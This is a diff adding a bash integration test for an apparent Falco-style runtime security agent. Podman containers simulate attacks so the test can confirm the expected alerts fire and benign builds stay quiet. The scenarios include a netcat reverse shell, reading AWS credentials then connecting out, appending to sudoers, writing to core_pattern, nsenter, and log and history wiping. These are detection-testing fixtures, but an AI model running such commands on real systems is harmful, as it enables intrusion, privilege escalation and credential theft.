@@ -1,0 +1,197 @@
+#!/bin/bash
+# test_default_rules.sh: `vigil run` with its default rules and store, as a
+# real agent, while real podman containers do what each default rule is about
+# (one container per scenario). Each scenario must give exactly the expected
+# set of rules for its container, and the alerts must be in the store. Then
+# benign work (compiling and running a program, building a Debian package,
+# Redis serving load, a container reading its own files) must raise nothing
+# at WARNING or above.
+# shellcheck disable=SC2016,SC2317
+set -u
+cd "$(dirname "$0")/../.." || exit 1
+# shellcheck source=tests/integration/lib.sh
+. tests/integration/lib.sh
+
+it_need_root
+it_need_bpf
+it_need_jq
+it_need_vigil
+it_need_podman
+ATTACK=$(realpath "$BUILD/tests/attack")
+[ -x "$ATTACK" ] || it_die "attack tool missing (make tests)"
+
+M=$$
+PORT=$((20000 + M % 20000))
+EXFIL_IP=198.51.100.77 # TEST-NET-2: a "public" address that stays on this machine
+AGENT_PID=""
+LISTENER_PIDS=()
+
+cleanup() {
+	[ -n "$AGENT_PID" ] && kill -KILL "$AGENT_PID" 2>/dev/null
+	for p in "${LISTENER_PIDS[@]}"; do kill "$p" 2>/dev/null; done
+	ip addr del "$EXFIL_IP/32" dev lo 2>/dev/null
+	vg_podman ps -a --format '{{.Names}}' 2>/dev/null | grep "^vgr-$M-" | xargs -r vg_podman rm -f >/dev/null 2>&1
+	it_cleanup_common
+}
+trap cleanup EXIT
+trap 'exit 1' INT TERM
+
+it_mktemp
+OUT=$IT_TMP/alerts.json
+ERR=$IT_TMP/agent.err
+DB=$IT_TMP/store.db
+
+# --- the agent, ready when it reports a host program run from /tmp (a NOTICE rule)
+cp /bin/true "$IT_TMP/ready-$M"
+"$VIGIL" run --store "$DB" --json --duration 240 >"$OUT" 2>"$ERR" &
+AGENT_PID=$!
+for ((i = 0; i < 100; i++)); do
+	kill -0 "$AGENT_PID" 2>/dev/null || it_die "vigil run exited at startup: $(cat "$ERR")"
+	"$IT_TMP/ready-$M"
+	grep -q "ready-$M" "$OUT" 2>/dev/null && break
+	sleep 0.2
+done
+grep -q "ready-$M" "$OUT" || it_die "vigil run reported nothing within 20 s: $(cat "$ERR")"
+
+# --- scenarios: name | podman options | command | expected rules (sorted, ';'-separated)
+declare -a S_NAME S_OPTS S_CMD S_WANT
+scenario() { S_NAME+=("$1"); S_OPTS+=("$2"); S_CMD+=("$3"); S_WANT+=("$4"); }
+
+scenario tty "-t" 'true' \
+	"Interactive shell in container"
+scenario token "" 'mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo t >/var/run/secrets/kubernetes.io/serviceaccount/token && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null' \
+	"Sensitive file read by unexpected program"
+scenario bindir "" 'echo x >/usr/bin/evil' \
+	"Write below binary directory"
+scenario etc "" 'echo x >/etc/evil.conf' \
+	"Write below /etc in container"
+scenario pkg "" 'ln -s /bin/busybox /tmp/apk && /tmp/apk add x; true' \
+	"Package manager in container"
+scenario drift "" 'cp /bin/busybox /tmp/dropped && /tmp/dropped true' \
+	"Drift - new executable run in container"
+scenario shm "--tmpfs /dev/shm:rw,exec" 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' \
+	"Program run from /dev/shm"
+scenario tmp "--tmpfs /tmp" 'cp /bin/busybox /tmp/x && /tmp/x true' \
+	"Execution from /tmp in container"
+scenario memfd "-v $ATTACK:/attack:ro" '/attack memfd-exec /bin/busybox true' \
+	"Fileless execution"
+scenario ptrace "--cap-add SYS_PTRACE -v $ATTACK:/attack:ro" 'sleep 5 & /attack ptrace-attach $!; kill $!' \
+	"Ptrace attach to another process"
+scenario revshell "--network host" "nc 127.0.0.1 $PORT -e /bin/sh" \
+	"Network tool in container;Reverse shell"
+scenario miner "" 'busybox echo stratum+tcp://pool.example:3333 >/dev/null' \
+	"Crypto miner"
+scenario mount "--privileged" 'mkdir -p /mnt && mount -t tmpfs none /mnt' \
+	"Mount in container"
+scenario hostdev "--privileged" 'mount -o ro /dev/vda /mnt 2>/dev/null; mount -o ro /dev/sda /mnt 2>/dev/null; true' \
+	"Host device mounted in container"
+scenario release "" 'echo /x >/tmp/release_agent' \
+	"Write to cgroup release_agent"
+scenario corepattern "--privileged" 'cat /proc/sys/kernel/core_pattern >/tmp/cp && cat /tmp/cp >/proc/sys/kernel/core_pattern' \
+	"Write to kernel core_pattern"
+scenario procsys "--privileged" 'echo 1 >/proc/sys/net/ipv4/ip_forward' \
+	"Write to /proc/sys in container"
+scenario nsenter "--privileged" 'nsenter -t 1 -u true' \
+	"Namespace change from container;Nsenter in container"
+scenario module "" 'insmod /bin/busybox 2>/dev/null; true' \
+	"Kernel module loaded from container"
+scenario userns "" 'unshare -U true 2>/dev/null; true' \
+	"User namespace created in container"
+scenario setuid "" 'cp /bin/busybox /tmp/x && chmod u+s /tmp/x' \
+	"Setuid or setgid bit set"
+scenario sudoers "" 'echo "x ALL=(ALL) ALL" >>/etc/sudoers' \
+	"Sudoers modified"
+scenario logs "" 'mkdir -p /var/log && echo a >>/var/log/app.log && : >/var/log/app.log' \
+	"Log file tampering"
+scenario history "" 'echo ls >>/root/.ash_history && rm /root/.ash_history' \
+	"Shell history tampering"
+scenario metadata "-v $ATTACK:/attack:ro" '/attack connect 169.254.169.254 80' \
+	"Cloud metadata service contacted from container"
+scenario k8sapi "--network host -v $ATTACK:/attack:ro" '/attack connect 127.0.0.1 6443' \
+	"Kubernetes API contacted from container"
+scenario exfil "--network host -v $ATTACK:/attack:ro" "mkdir -p /root/.aws && echo k >/root/.aws/credentials && cat /root/.aws/credentials >/dev/null && /attack connect $EXFIL_IP $((PORT + 1))" \
+	"Sensitive file read by unexpected program;Sensitive read then egress"
+
+# listeners on this machine for the reverse shell and the exfiltration
+busybox nc -l -p "$PORT" </dev/null >/dev/null 2>&1 &
+LISTENER_PIDS+=($!)
+ip addr add "$EXFIL_IP/32" dev lo || it_die "cannot add $EXFIL_IP to lo"
+busybox httpd -f -p "$EXFIL_IP:$((PORT + 1))" -h "$IT_TMP" &
+LISTENER_PIDS+=($!)
+sleep 0.3
+
+for i in "${!S_NAME[@]}"; do
+	# shellcheck disable=SC2086 # options are words on purpose
+	it_bounded 30 vg_podman run --rm --name "vgr-$M-${S_NAME[$i]}" ${S_OPTS[$i]} "$IT_IMAGE" sh -c "${S_CMD[$i]}" \
+		>/dev/null 2>"$IT_TMP/podman-${S_NAME[$i]}.err" </dev/null ||
+		echo "note: scenario ${S_NAME[$i]} exited non-zero: $(head -c 300 "$IT_TMP/podman-${S_NAME[$i]}.err")"
+done
+
+# --- benign work: nothing at WARNING or above, judged on the alerts of its own
+# session (a new one, made by setsid) and container, so that whatever else runs on
+# the machine meanwhile does not count
+sleep 1
+BENIGN_FROM=$(wc -l <"$OUT")
+export IT_TMP
+echo $((PORT + 2)) >"$IT_TMP/redis.port"
+setsid bash -c 'echo $$ >"$IT_TMP/benign.sid"; exec bash "$0"' /dev/stdin <<'BENIGN' || it_fail "benign build work failed"
+	cd "$IT_TMP" || exit 1
+	printf '#include <stdio.h>\nint main(void){puts("ok");return 0;}\n' >hello.c
+	cc -O2 -o hello hello.c && ./hello >/dev/null
+	mkdir -p pkg/DEBIAN pkg/usr/share/doc/vgtest
+	printf 'Package: vgtest\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@t>\nDescription: t\n' >pkg/DEBIAN/control
+	echo doc >pkg/usr/share/doc/vgtest/README
+	dpkg-deb --build pkg vgtest.deb >/dev/null
+	if command -v redis-server >/dev/null && command -v redis-benchmark >/dev/null; then
+		port=$(cat redis.port)
+		redis-server --port "$port" --save '' --appendonly no --daemonize no >/dev/null &
+		sleep 0.5
+		redis-benchmark -p "$port" -n 5000 -q -t set,get >/dev/null 2>&1 || exit 1
+		kill $!
+	fi
+BENIGN
+vg_podman run --rm --name "vgr-$M-benign" "$IT_IMAGE" sh -c 'i=0; while [ $i -lt 100 ]; do cat /etc/passwd /etc/hosts >/dev/null; ls / >/dev/null; i=$((i+1)); done' >/dev/null 2>&1
+sleep 2
+
+# --- stop the agent (clean stop flushes the store)
+kill -INT "$AGENT_PID"
+for ((i = 0; i < 150; i++)); do kill -0 "$AGENT_PID" 2>/dev/null || break; sleep 0.1; done
+wait "$AGENT_PID" 2>/dev/null
+rc=$?
+AGENT_PID=""
+[ "$rc" -eq 0 ] || it_fail "vigil run exited with $rc: $(tail -5 "$ERR")"
+
+jq -e . "$OUT" >/dev/null || it_die "alerts are not JSON lines"
+for i in "${!S_NAME[@]}"; do
+	name="vgr-$M-${S_NAME[$i]}"
+	got=$(jq -r --arg n "$name" 'select(.vigil.event.container.name == $n) | .rule' "$OUT" | sort -u | paste -sd ';')
+	if [ "${S_NAME[$i]}" = hostdev ] && [ -z "$got" ]; then
+		echo "note: no block device to mount here; hostdev scenario not judged"
+		continue
+	fi
+	[ "$got" = "${S_WANT[$i]}" ] || it_fail "scenario ${S_NAME[$i]}: expected [${S_WANT[$i]}], got [$got]: $(
+		jq -c --arg n "$name" 'select(.vigil.event.container.name == $n) | [.rule, .output_fields["proc.name"], .output]' "$OUT" | head -c 1500)"
+done
+
+# every alert has Falco's keys and the container's context
+n=$(jq -c 'select((.time and .rule and .priority and .output and .output_fields and .source and .tags and .hostname) | not)' "$OUT" | wc -l)
+[ "$n" -eq 0 ] || it_fail "$n alerts lack Falco's keys"
+
+# benign phase
+BSID=$(cat "$IT_TMP/benign.sid" 2>/dev/null || echo 0)
+tail -n +"$((BENIGN_FROM + 1))" "$OUT" | jq -c --argjson sid "$BSID" --arg c "vgr-$M-benign" '
+	select(.priority | IN("Emergency","Alert","Critical","Error","Warning"))
+	| select(.vigil.event.process.sid == $sid or .vigil.event.container.name == $c) | {rule, output}' >"$IT_TMP/benign"
+[ ! -s "$IT_TMP/benign" ] || it_fail "benign work raised alerts: $(head -c 2000 "$IT_TMP/benign")"
+# the session filter sees the benign work: its program run from /tmp is a NOTICE
+n=$(jq -c --argjson sid "$BSID" 'select(.vigil.event.process.sid == $sid and .rule == "Execution from /tmp on host")' "$OUT" | wc -l)
+[ "$n" -ge 1 ] || it_fail "no alert seen from the benign session $BSID: the benign check would be blind"
+
+# the store holds what was printed
+printed=$(wc -l <"$OUT")
+stored=$("$VIGIL" alerts --store "$DB" --json | wc -l)
+[ "$printed" -eq "$stored" ] || it_fail "printed $printed alerts, the store holds $stored"
+n=$("$VIGIL" alerts --store "$DB" --json --container "vgr-$M-drift" --priority critical | jq -r .rule | sort -u)
+[ "$n" = "Drift - new executable run in container" ] || it_fail "vigil alerts --container/--priority gave: $n"
+
+it_finish
